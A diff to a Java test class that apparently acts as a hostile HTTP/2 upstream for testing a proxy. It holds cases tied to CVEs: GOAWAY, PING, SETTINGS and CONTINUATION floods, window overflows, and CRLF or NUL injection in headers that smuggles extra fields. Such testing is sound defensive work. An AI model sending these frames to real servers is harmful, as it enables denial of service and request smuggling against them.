@@ -29,67 +29,115 @@ final class UpstreamAttacks {
 
     static List<Attack> all() {
         return List.of(
-                part("goaway_before", "CVE-2023-35945", (stage, _) -> stage.frame(GOAWAY, 0, 0, goAway(0))),
-                part("goaway_flood", "CVE-2023-35945", (stage, _) -> {
-                    for (int i = 0; i < FLOOD; i++) {
-                        stage.frame(GOAWAY, 0, 0, goAway(Integer.MAX_VALUE));
-                    }
-                }),
+                part(
+                        "goaway_before",
+                        "CVE-2023-35945",
+                        (stage, _) -> stage.frame(GOAWAY, 0, 0, goAway(0))),
+                part(
+                        "goaway_flood",
+                        "CVE-2023-35945",
+                        (stage, _) -> {
+                            for (int i = 0; i < FLOOD; i++) {
+                                stage.frame(GOAWAY, 0, 0, goAway(Integer.MAX_VALUE));
+                            }
+                        }),
                 part("rst_refused", "CVE-2023-35945", reset(Http2Error.REFUSED_STREAM)),
                 part("rst_internal", "resets instead of answers", reset(Http2Error.INTERNAL_ERROR)),
-                part("up_settings_flood", "CVE-2019-9515", (stage, _) -> {
-                    for (int i = 0; i < FLOOD; i++) {
-                        stage.frame(SETTINGS, 0, 0);
-                    }
-                }),
-                part("up_ping_flood", "CVE-2019-9512", (stage, _) -> {
-                    for (int i = 0; i < FLOOD; i++) {
-                        stage.frame(PING, 0, 0, new byte[8]);
-                    }
-                }),
-                part("up_continuation_flood", "CVE-2024-27919", (stage, stream) -> {
-                    stage.frame(HEADERS, 0, stream, OK);
-                    for (int i = 0; i < FLOOD; i++) {
-                        stage.frame(CONTINUATION, 0, stream, new byte[100]);
-                    }
-                }),
-                part("up_window_overflow", "RFC 9113, 6.9.1", (stage, _) -> {
-                    stage.frame(WINDOW_UPDATE, 0, 0, Http2Line.word(Integer.MAX_VALUE));
-                    stage.frame(WINDOW_UPDATE, 0, 0, Http2Line.word(Integer.MAX_VALUE));
-                }),
-                part("up_interim_flood", "1xx without an end", (stage, stream) -> {
-                    byte[] early = new FieldText().field(":status", "103").bytes();
-                    for (int i = 0; i < FLOOD; i++) {
-                        stage.frame(HEADERS, END_HEADERS, stream, early);
-                    }
-                }),
-                part("up_push_promise", "RFC 9113, 8.4", (stage, stream) -> {
-                    stage.frame(PUSH_PROMISE, END_HEADERS, stream, Http2Line.word(2));
-                }),
+                part(
+                        "up_settings_flood",
+                        "CVE-2019-9515",
+                        (stage, _) -> {
+                            for (int i = 0; i < FLOOD; i++) {
+                                stage.frame(SETTINGS, 0, 0);
+                            }
+                        }),
+                part(
+                        "up_ping_flood",
+                        "CVE-2019-9512",
+                        (stage, _) -> {
+                            for (int i = 0; i < FLOOD; i++) {
+                                stage.frame(PING, 0, 0, new byte[8]);
+                            }
+                        }),
+                part(
+                        "up_continuation_flood",
+                        "CVE-2024-27919",
+                        (stage, stream) -> {
+                            stage.frame(HEADERS, 0, stream, OK);
+                            for (int i = 0; i < FLOOD; i++) {
+                                stage.frame(CONTINUATION, 0, stream, new byte[100]);
+                            }
+                        }),
+                part(
+                        "up_window_overflow",
+                        "RFC 9113, 6.9.1",
+                        (stage, _) -> {
+                            stage.frame(WINDOW_UPDATE, 0, 0, Http2Line.word(Integer.MAX_VALUE));
+                            stage.frame(WINDOW_UPDATE, 0, 0, Http2Line.word(Integer.MAX_VALUE));
+                        }),
+                part(
+                        "up_interim_flood",
+                        "1xx without an end",
+                        (stage, stream) -> {
+                            byte[] early = new FieldText().field(":status", "103").bytes();
+                            for (int i = 0; i < FLOOD; i++) {
+                                stage.frame(HEADERS, END_HEADERS, stream, early);
+                            }
+                        }),
+                part(
+                        "up_push_promise",
+                        "RFC 9113, 8.4",
+                        (stage, stream) -> {
+                            stage.frame(PUSH_PROMISE, END_HEADERS, stream, Http2Line.word(2));
+                        }),
                 head("up_crlf_in_name", "CVE-2025-67735", field("x\r\ny", "z")),
                 head("up_crlf_in_value", "CVE-2025-67735", field("x-a", "b\r\nx-c: d")),
                 head("up_nul_in_value", "CVE-2019-9900", field("x-a", "b\0c")),
                 head("up_bad_status", "status 1, 99, x00", new FieldText().field(":status", "x00")),
                 head("up_two_status", "two of them", field(":status", "200")),
                 head("up_status_101", "CVE-2024-23326", new FieldText().field(":status", "101")),
-                head("up_two_lengths", "lengths that differ", field("content-length", "5").field("content-length", "6")),
-                head("up_transfer_encoding", "a field of HTTP/1.1", field("transfer-encoding", "chunked")),
-                head("up_huge_head", "a head of 100 KB", field("x-a", "y".repeat(15_000))),
-                body("up_pseudo_in_trailers", "RFC 9113, 8.1", (stage, stream) -> {
-                    stage.frame(DATA, 0, stream, (byte) 'a');
-                    byte[] trailers = new FieldText().field(":status", "200").bytes();
-                    stage.frame(HEADERS, END_HEADERS | END_STREAM, stream, trailers);
-                }),
-                body("up_more_than_window", "RFC 9113, 6.9.1", (stage, stream) -> {
-                    for (int i = 0; i < 600; i++) {
-                        stage.frame(DATA, 0, stream, new byte[16_384]);
-                    }
-                }),
-                body("up_empty_data", "CVE-2019-9518", (stage, stream) -> {
-                    for (int i = 0; i < FLOOD; i++) {
-                        stage.frame(DATA, 0, stream);
-                    }
-                }));
+                head(
+                        "up_two_lengths",
+                        "lengths that differ",
+                        field("content-length", "5").field("content-length", "6")),
+                head(
+                        "up_transfer_encoding",
+                        "a field of HTTP/1.1",
+                        field("transfer-encoding", "chunked")),
+                part(
+                        "up_huge_head",
+                        "a head of 120 KB",
+                        (stage, stream) -> {
+                            stage.frame(HEADERS, END_STREAM, stream, OK);
+                            byte[] more = new FieldText().field("x-a", "y".repeat(15_000)).bytes();
+                            for (int i = 1; i <= 8; i++) {
+                                stage.frame(CONTINUATION, i == 8 ? END_HEADERS : 0, stream, more);
+                            }
+                        }),
+                body(
+                        "up_pseudo_in_trailers",
+                        "RFC 9113, 8.1",
+                        (stage, stream) -> {
+                            stage.frame(DATA, 0, stream, (byte) 'a');
+                            byte[] trailers = new FieldText().field(":status", "200").bytes();
+                            stage.frame(HEADERS, END_HEADERS | END_STREAM, stream, trailers);
+                        }),
+                body(
+                        "up_more_than_window",
+                        "RFC 9113, 6.9.1",
+                        (stage, stream) -> {
+                            for (int i = 0; i < 100; i++) {
+                                stage.frame(DATA, 0, stream, new byte[16_384]);
+                            }
+                        }),
+                body(
+                        "up_empty_data",
+                        "CVE-2019-9518",
+                        (stage, stream) -> {
+                            for (int i = 0; i < FLOOD; i++) {
+                                stage.frame(DATA, 0, stream);
+                            }
+                        }));
     }
 
     private static byte[] goAway(int last) {
